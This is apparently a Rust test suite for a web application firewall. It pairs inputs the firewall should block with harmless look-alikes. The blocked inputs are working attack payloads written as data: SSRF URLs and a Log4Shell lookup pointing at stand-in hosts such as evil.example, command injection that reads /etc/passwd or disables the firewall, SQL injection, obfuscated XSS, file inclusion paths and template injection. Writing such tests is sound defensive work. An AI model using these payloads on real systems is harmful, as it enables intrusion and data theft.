//! Round 9 rule tests: false positives met in round 8 and fixed, and the classes the blind
//! measurements of round 9 let through. Every attack has a benign twin.

mod common;

use common::{benign, blocked};

#[test]
fn echo_at_the_start_of_a_sentence_is_prose() {
    for text in [
        "echo $SHELL prints your login shell",
        "echo /tmp shows the path back to you",
        "printf %s formats a string",
    ] {
        benign("json", "comment", text);
    }
    for attack in [
        "echo $PATH",
        "echo /etc/passwd > /var/www/x.php",
        "echo $SHELL; id",
        "x; echo $SHELL prints",
        "a|printf ~/.ssh/id_rsa",
        "$(echo $HOME)",
    ] {
        blocked("query", "q", attack);
    }
}

#[test]
fn generic_types_after_a_paren_are_no_comparison() {
    for text in [
        "Map<String,Integer>(16) and Vec<u8> are both generic",
        "new HashMap<>(8) and Vec<String>",
        "call f(x) and List<Item>",
    ] {
        benign("json", "comment", text);
    }
    for attack in [
        "') or a<'b",
        "1) and id<1",
        "x') or col>(select 1)",
        "') or 2>=1",
        "\") and x<@v",
    ] {
        blocked("query", "id", attack);
    }
}

#[test]
fn ssrf_105_loopback_as_the_user_name() {
    for attack in [
        "http://localhost%00@evil.com/",
        "http://127.0.0.1@evil.example/x",
        "http://[::1]:80@evil.example/",
        "http://169.254.169.254@attacker.example/",
    ] {
        blocked("query", "url", attack);
    }
    for url in [
        "https://alice@example.com/repo.git",
        "ftp://anonymous@ftp.example.org/pub",
        "mailto:localhost@example.com",
        "see http://example.com/localhost@home for details",
    ] {
        benign("query", "url", url);
    }
}

#[test]
fn lfi_004_windows_server_files_by_drive_path() {
    for attack in [
        "C:/logs/access.log",
        "C:\\log\\httpd\\error_log",
        "C:\\nginx-1.7.4\\conf\\nginx.conf",
        "C:/unattend.xml",
        "c:/sysprep.inf",
        "C:/$recycle.bin/s-1-5-18/desktop.ini",
        "C:/system volume information/wpsettings.dat",
        "C:/users/administrator/desktop/desktop.ini",
        "C:/opt/xampp/logs/error.log",
        "C:/programfiles/xampp/apache/conf/httpd.conf",
    ] {
        blocked("query", "file", attack);
        blocked("json", "file", attack);
    }
    for path in [
        "C:\\Users\\alice\\AppData\\Local\\MyApp\\logs\\app.log",
        "C:/ProgramData/Vendor/agent/settings.ini",
        "C:\\Program Files\\Vendor\\Tool\\tool.cfg",
        "C:\\Users\\bob\\Documents\\report.docx",
        "D:\\builds\\release-42\\artifacts.zip",
        "the installer writes C:/logs/setup.log when it fails",
    ] {
        benign("json", "path", path);
    }
}

#[test]
fn lfi_105_php_conversion_filter_names_alone() {
    for attack in [
        "convert.iconv.UTF8.CSISO2022KR",
        "convert.iconv.437.CP930",
        "convert.base64-decode",
        "convert.quoted-printable-encode",
    ] {
        blocked("query", "page", attack);
    }
    for text in [
        "convert to base64 before upload",
        "we convert.then() the promise",
        "iconv -f utf-8 -t ascii",
    ] {
        benign("json", "comment", text);
    }
}

#[test]
fn escaped_line_breaks_separate_commands() {
    for attack in ["\\nid\\n", ";id\\n", "\\n/bin/ls -al\\n", "x\\r\\nwhoami"] {
        blocked("query", "host", attack);
        blocked("json", "host", attack);
    }
    for text in [
        "C:\\new\\id",
        "use \\n for a new line and \\t for a tab",
        "printf(\"%d\\n\", id);",
        "line one\\nline two",
    ] {
        benign("json", "comment", text);
    }
}

#[test]
fn netsh_and_template_object_literals() {
    for attack in [
        "| netsh firewall set opmode disable",
        "& netsh advfirewall set allprofiles state off",
    ] {
        blocked("query", "q", attack);
    }
    blocked(
        "query",
        "name",
        "{{app.request.query.filter(0,0,1024,{'options':'system'})}}",
    );
    for text in [
        "netsh is the Windows network shell",
        "Hello {{ user.name }}, your order {{ order.id }} shipped",
        "{{#each items}}{{this}}{{/each}}",
    ] {
        benign("json", "comment", text);
    }
}

#[test]
fn best_fit_slashes_in_traversal() {
    blocked("query", "file", "..%uEFC8..%uEFC8..%uEFC8etc/passwd");
    blocked("query", "file", "/..%uF025..%uF025..%uF025etc/passwd");
    benign(
        "json",
        "note",
        "..\u{efc8} private use glyph in a font name",
    );
}

/// Inspects a query string sent as is.
fn raw_query(q: &str) -> portcullis_firewall::Verdict {
    let (parts, body) = common::build("query_raw", q, None);
    common::shared().inspect(&parts, &body)
}

#[test]
fn repeated_parameters_are_inspected_joined() {
    // ASP.NET joins `id=a&id=b` into `a,b`: a statement split over the copies.
    let v = raw_query("id=1/*&id=*/union/*&id=*/select+password/*&id=*/from+users");
    assert!(v.blocked, "split union select allowed ({:?})", v.rule_ids());
    let v = raw_query("q=%3Cscript%3E&q=alert(document.cookie)&q=%3C/script%3E");
    assert!(v.blocked, "split script allowed ({:?})", v.rule_ids());
    // Repeated filters and tags are ordinary.
    for q in [
        "tag=red&tag=blue&tag=green",
        "sort=name&sort=-created&page=2",
        "id=1&id=2&id=3&id=4",
        "q=rock+and+roll&q=union+station",
    ] {
        let v = raw_query(q);
        assert!(!v.blocked, "{q} refused ({:?})", v.rule_ids());
    }
}

#[test]
fn a_payload_cut_at_its_first_equals_sign_is_inspected_whole() {
    for q in [
        "%3Csvg%20onload=alert(1)%3E",
        "'%20or%20'a'='a",
        "x'%20or%201=1--%20=1",
    ] {
        let v = raw_query(q);
        assert!(v.blocked, "{q} allowed ({:?})", v.rule_ids());
    }
    for q in [
        "a.b=1",
        "filter[name]=x",
        "utm_source=news&ref=home",
        "x-y=2",
    ] {
        let v = raw_query(q);
        assert!(!v.blocked, "{q} refused ({:?})", v.rule_ids());
    }
}

#[test]
fn round9_lists_literals_joined_xpath_obfuscated_hosts_and_sql_splices() {
    for (field, attack) in [
        ("q", "s1=['java'+''+''+'scr'+'ipt'+':'+'aler'+'t'+'(1)'];"),
        ("q", "'<scr'+'ipt>al'+'ert(1)</scr'+'ipt>'"),
        ("id", "1'; exec('sel'+'ect * fr'+'om users')--"),
        ("q", "count(/child::node())"),
        ("user", "' and count(/@*)=1 and '1'='1"),
        (
            "user",
            "x' or string-length(//user[1]/password)=8 or 'a'='b",
        ),
        ("url", "http://0x42.0x0000066.0x7.0x93/"),
        ("url", "<a href=\"http://0102.0146.0007.00000223/\">x</a>"),
        ("name", "' || myappadmin.adduser('admin', 'newpass') || '"),
        ("id", "1or1=1"),
        (
            "q",
            "BACKUP database master to disks='\\\\10.0.0.9\\share\\backupdb.dat'",
        ),
        (
            "page",
            "data:application/x-httpd-php;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
        ),
        (
            "t",
            "{% for key, value in config.iteritems() %}{{ key }}{% endfor %}",
        ),
        ("t", "{{ get_user_file(\"/etc/hosts\") }}"),
        ("c", "<!--#printenv -->"),
    ] {
        blocked("query", field, attack);
    }
    for text in [
        "const greeting = 'Hello, ' + name + '!';",
        "label = \"total: \" + \"\" + count",
        "count(items) returns the number of rows",
        "the name (as written on the passport) must match",
        "see http://93.184.216.34/ for the mirror",
        "x = a || b || 'default'",
        "backup database nightly to the NAS share",
        "{% for item in cart.items %}{{ item.name }}{% endfor %}",
        "Use {{ user.home }} in templates",
        "<!-- printenv is a shell command -->",
        "version 10or11 = both work",
    ] {
        benign("json", "comment", text);
    }
}

#[test]
fn xss_125_constructor_by_brackets() {
    common::attack(
        "xss-125",
        "query",
        "q",
        "[]['\\146\\151\\154\\164\\145\\162']['\\143\\157\\156\\163\\164\\162\\165\\143\\164\\157\\162']('return this')()",
    );
    common::attack("xss-125", "json", "q", "''['sub']['constructor']('x')()");
    benign("json", "code", "obj['constructor'] === Object");
    benign("json", "code", "row['name']['constructor'] is checked");
}

#[test]
fn round9_nemesida_classes() {
    for (placement, field, attack) in [
        // A `\u00XX` escape layer over a URL-encoded payload.
        (
            "query",
            "q",
            "\\u0025\\u0032\\u0037\\u0020\\u006f\\u0072\\u0020\\u0031\\u003d\\u0031\\u002d\\u002d",
        ),
        // Leading zeros in numeric character references.
        (
            "query",
            "q",
            "prompt&#00000000000000000040;1&#00000000000000000041;",
        ),
        // Escaped braces in a Log4Shell lookup.
        (
            "header",
            "x-api-version",
            "$\\{$\\{::-j\\}ndi:rmi://evil.example/a\\}",
        ),
        // A variable glued inside words and `+` next to an operator.
        ("query", "host", "; cat$u+/etc$u/passwd$u"),
        ("query", "host", "127.0.0.1+&&+ls /etc"),
        // List items joined (`"".join([...])`), with escaped quotes.
        ("query", "q", "' un\\\",\\\"ion se\\\",\\\"lect 1,2,3,4--"),
        // A sink handed over as a later argument; jQuery remote script.
        ("query", "q", "[1,2,3].with(0,alert).shift()(1)"),
        (
            "query",
            "q",
            "onload=function(){$.getScript('//evil.example/2.js')}",
        ),
        ("query", "q", "(prompt())"),
        // Bidirectional overrides inside a tag.
        ("query", "q", "<\u{202e}script\u{202e}>alert\u{202e}(1)"),
        // Whitespace entities inside a script scheme in a URL attribute.
        (
            "json",
            "html",
            "<a href=\"j&Tab;avascript&colon;a&Tab;lert()\">x</a>",
        ),
        // Base64 inside an attribute, and base64 of base64.
        (
            "json",
            "html",
            "<a href=amF2YXNjcmlwdDphbGVydCgxKT5jbGljaw==>x</a>",
        ),
        (
            "query",
            "data",
            "UEhOamNtbHdkRDVqYjI1emRIdHZibVZ5Y205eWZUMWhiR1Z5ZER0MGFISnZkeUF4UEM5elkzSnBjSFEr",
        ),
        // Escapes under a URL layer under escapes; a constructor reached by brackets.
        (
            "query",
            "q",
            "\\u0073\\u0065\\u0074\\u0054\\u0069\\u006d\\u0065\\u006f\\u0075\\u0074\\u0025\\u0035\\u0043\\u0078\\u0032\\u0038\\u0027\\u0061\\u006c\\u0065\\u0072\\u0074\\u0028\\u0031\\u0029\\u0027\\u0029",
        ),
        // The LDAP metacharacter probe.
        ("query", "user", "*()|&'"),
        ("query", "user", "*)(|(&"),
    ] {
        blocked(placement, field, attack);
    }
    for (placement, field, text) in [
        ("json", "comment", "see \\u00e9t\\u00e9 100% done"),
        ("json", "comment", "&#0000065;BC corp"),
        ("json", "price", "US$5 or EUR 4"),
        ("json", "csv", "\"red\",\"green\",\"blue\""),
        ("json", "items", "[\"union\",\"station\"]"),
        ("json", "comment", "C++ && Java || Rust; pick one"),
        ("json", "name", "\u{202b}مرحبا\u{202c} hello"),
        (
            "json",
            "html",
            "<a href=\"https://example.com/docs\">docs</a>",
        ),
        (
            "json",
            "html",
            "<img src=\"/img/logo.png\" alt=\"Logo of the aBcDeFgHiJkLmNoPq team\">",
        ),
        (
            "json",
            "note",
            "(*) marks required fields & (!) marks warnings",
        ),
        ("json", "note", "***"),
        ("json", "code", "obj['constructor'] === Object"),
    ] {
        benign(placement, field, text);
    }
}
